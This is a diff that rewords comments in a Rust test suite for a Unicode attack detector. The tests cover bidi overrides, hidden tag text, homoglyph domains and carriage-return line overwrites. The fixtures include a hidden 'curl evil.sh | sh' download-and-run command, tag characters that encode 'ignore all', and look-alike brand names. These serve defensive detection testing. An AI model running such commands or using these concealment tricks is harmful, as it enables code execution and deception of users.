@@ -1,9 +1,9 @@
-//! Attacks, which must be found.
+//! Attacks that must be found.
 
 use super::found;
 use crate::support::Folder;
 
-/// The codes of what is found.
+/// Returns the codes of the findings.
 fn codes(text: impl AsRef<[u8]>) -> Vec<String> {
     found(text, &[]).into_iter().map(|(code, _)| code).collect()
 }
@@ -13,7 +13,7 @@ fn finds(text: impl AsRef<[u8]>, expected: &[&str]) {
     assert_eq!(codes(text), expected);
 }
 
-/// What it means, as the report has it.
+/// Returns the meaning in the report.
 fn means(text: &str) -> serde_json::Value {
     let run = Folder::new().pipe(&["audit", "--format", "json"], text);
     run.lines_of_json()[0]["means"].clone()
@@ -21,7 +21,7 @@ fn means(text: &str) -> serde_json::Value {
 
 #[test]
 fn trojan_source_is_found() {
-    // A comment that is code: early return, commenting out, stretched string.
+    // A comment that looks like code: an early return, commented-out code, an extended string.
     finds(
         "/*\u{202E} } \u{2066}if (isAdmin)\u{2069} \u{2066} begin admins only */\n",
         &["bidi-override", "bidi-reorder", "bidi-unterminated"],
@@ -34,16 +34,16 @@ fn trojan_source_is_found() {
     finds("x = \"\u{2066}abc\u{2069}\"\n", &["bidi-reorder"]);
     finds("x = 1 # \u{2067} return\nnext\n", &["bidi-unterminated"]);
     finds("x = 1 # \u{202B} return", &["bidi-unterminated"]);
-    // Within text from right to left, but one in another.
+    // An isolate inside text from right to left, and one inside another isolate.
     finds("\u{5D0} \u{2067}\u{5D0}\u{2066}x\u{2069}\u{2069}\n", &["bidi-isolate", "bidi-nested"]);
     finds("stray \u{2069} and \u{202C}\n", &["bidi-stray", "bidi-stray"]);
     finds("\u{202E}gpj.exe\u{202C}\n", &["bidi-override"]);
-    // The end of an isolate is no end of what is open around it.
+    // The end of an isolate does not close an embedding around it.
     finds(
         "a\u{202A}b\u{2067}c\u{202A}d\u{2069}\n",
         &["bidi-unterminated", "bidi-reorder", "bidi-unterminated"],
     );
-    // A thousand that are open.
+    // A thousand open isolates.
     assert_eq!(
         codes("\u{2066}".repeat(1000)).iter().filter(|code| *code == "bidi-unterminated").count(),
         1000
@@ -56,7 +56,7 @@ fn hidden_text_is_found_and_decoded() {
         "ignore all".chars().map(|c| char::from_u32(0xE0000 + c as u32).unwrap()).collect();
     finds(format!("hello{tags}!"), &["tag-text"]);
     assert_eq!(means(&format!("hello{tags}!")), "ignore all");
-    // Behind a flag, but no flag.
+    // These follow a flag but do not form a flag.
     finds(format!("\u{1F3F4}{tags}\u{E007F}"), &["tag-text"]);
     finds("\u{1F3F4}\u{E0075}\u{E0073}\u{E0074}\u{E0078}\u{E007F}", &["tag-sequence"]);
     let bytes = b"run";
@@ -82,7 +82,7 @@ fn invisible_characters_are_found() {
     finds("\u{64A}\u{200C} ", &["joiner-stray"]);
 }
 
-/// Bits in characters that are right where they stand, but not so many of them.
+/// Bits hidden in characters that are valid in their context, but not in this number.
 #[test]
 fn what_is_hidden_in_joiners_and_variants_is_found() {
     const STRAY: &str = "joiner-stray";
@@ -92,7 +92,7 @@ fn what_is_hidden_in_joiners_and_variants_is_found() {
     finds(format!("\u{915}\u{94D}{bits}\u{937}"), &[STRAY, STRAY, STRAY, HIDES, HIDES]);
     finds("\u{182E}\u{180B}\u{180C}\u{180D}\u{1823}", &["selector-stray", "selector-stray"]);
     finds("\u{182E}\u{180E}\u{180E}\u{1823}", &[HIDES]);
-    // A variant of a letter, and then a gap.
+    // A variant of a letter, followed by a vowel separator.
     finds("\u{1828}\u{180B}\u{180E}\u{1820}", &[]);
 }
 
@@ -104,7 +104,7 @@ fn controls_of_terminals_are_found() {
     finds("a\u{C}b\u{85}c\u{2028}", &["format-effector", "format-effector", "format-effector"]);
 }
 
-/// A terminal shows what stands behind the carriage return, over what stands before.
+/// A terminal shows the text after the carriage return over the text before it.
 #[test]
 fn lines_that_are_written_over_are_found() {
     const RULE: &str = "line-overwritten";
@@ -113,7 +113,7 @@ fn lines_that_are_written_over_are_found() {
     finds("first\nsafe\r\revil\n", &[RULE]);
     finds("first\r\nna\u{EF}ve\r\u{44D}\u{442}\u{43E}\r\nlast\r\n", &[RULE]);
     finds("a\rb\rc\n", &[RULE, RULE]);
-    // Too few to be the lines of an old Mac; many of which one is to cover those before.
+    // Too few lines for an old Mac file; or many lines of which one covers the others.
     finds("curl evil.sh | sh #\rls                \r", &[RULE]);
     finds("a\rb\rc", &[RULE, RULE]);
     finds("a\rb\rc\r", &[RULE, RULE]);
@@ -123,7 +123,7 @@ fn lines_that_are_written_over_are_found() {
     finds("a\u{200B}\rb\u{200B}\nc\u{200B}", &["zero-width", RULE, "zero-width", "zero-width"]);
     let utf16: Vec<u8> = "a\nb\rc\n".encode_utf16().flat_map(u16::to_be_bytes).collect();
     assert_eq!(found(&utf16, &["-f", "utf-16be"]), [(RULE.to_owned(), 6)]);
-    // Nothing is hidden: ends of lines, also of an old Mac; nothing before, or behind.
+    // Nothing is hidden: normal line ends, those of an old Mac, or no text on one side.
     for text in [
         "a\r\nb\r\n",
         "a\r\r\nb\r\n",
@@ -137,14 +137,14 @@ fn lines_that_are_written_over_are_found() {
     ] {
         finds(text, &[]);
     }
-    // Wherever the blocks are cut.
+    // At the ends of blocks.
     for len in 65_530..65_540 {
         finds(format!("\n{}\r\r\nb", "x".repeat(len)), &[]);
         finds(format!("\n{}\r\rb", "x".repeat(len)), &[RULE]);
     }
 }
 
-/// What has a meaning in mathematics and before marks, and none within words.
+/// These operators have a meaning in formulas and before marks, but not inside words.
 #[test]
 fn operators_within_words_are_found() {
     for operator in [
@@ -176,7 +176,7 @@ fn operators_within_words_are_found() {
     );
 }
 
-/// A word that is spelled with an operator behind each letter, or in parts of one letter.
+/// Words with an operator after each letter, or divided by operators.
 #[test]
 fn operators_between_letters_are_found() {
     for text in [
@@ -213,7 +213,7 @@ fn overlong_forms_are_named() {
     finds(b"a\xE0\x82\xA9b", &["overlong"]);
     finds(b"\xED\xA0\x80 \xED\xA0\xBD\xED\xB8\x80", &["surrogate", "irregular-pair"]);
     finds(b"caf\xE9", &["ill-formed"]);
-    // A path of dots that are what they are.
+    // A valid path of dots before the overlong form.
     finds(b"/../\xC0\xAF", &["overlong-ascii"]);
 }
 
@@ -227,7 +227,7 @@ fn words_that_look_like_others_are_found() {
     finds("user_\u{456}d", &["mixed-script"]);
     assert_eq!(means("p\u{430}ypal"), "paypal");
     finds("\u{440}\u{430}\u{443}\u{440}\u{430}l", &["mixed-script"]);
-    // Whatever look-alikes the letters have: each word.
+    // All look-alikes are found, in each word.
     let words = "υɴіѕѡар.org bітсоіn αpple tωitter";
     assert_eq!(
         found(words, &[]),
@@ -240,7 +240,7 @@ fn words_that_look_like_others_are_found() {
     {
         assert_eq!(means(word), reading);
     }
-    // At the letter of the other script.
+    // The finding is at the letter of the other script.
     let word = "НавигационнаяСcылка";
     assert_eq!(found(word, &[]), [("mixed-script".to_owned(), 28)]);
     assert_eq!(means(word), "НавигационнаяСсылка");
@@ -282,8 +282,8 @@ fn mojibake_is_found_and_read() {
     }
 }
 
-/// What `utf repair` fixes is told, also where honest text may have it; and nothing is removed of
-/// which it makes a letter.
+/// Mojibake that `utf repair` fixes is reported, even if the text could be intended. No hint
+/// suggests removing a part of a letter.
 #[test]
 fn mojibake_that_is_fixed_is_found() {
     finds("\u{C5}\u{81}ukasz Sk\u{C5}\u{201A}odowski\n", &["mojibake", "control", "mojibake"]);
@@ -314,7 +314,7 @@ fn what_is_no_character_is_found() {
     finds("\u{FFFC} \u{FFFD}", &["object-replacement", "replacement-character"]);
 }
 
-/// In every encoding, with the offsets of the file.
+/// Attacks are found in every encoding, with offsets in the file.
 #[test]
 fn attacks_are_found_in_any_encoding() {
     let text = "naïve \u{1F600}\np\u{430}y \u{202E} x";
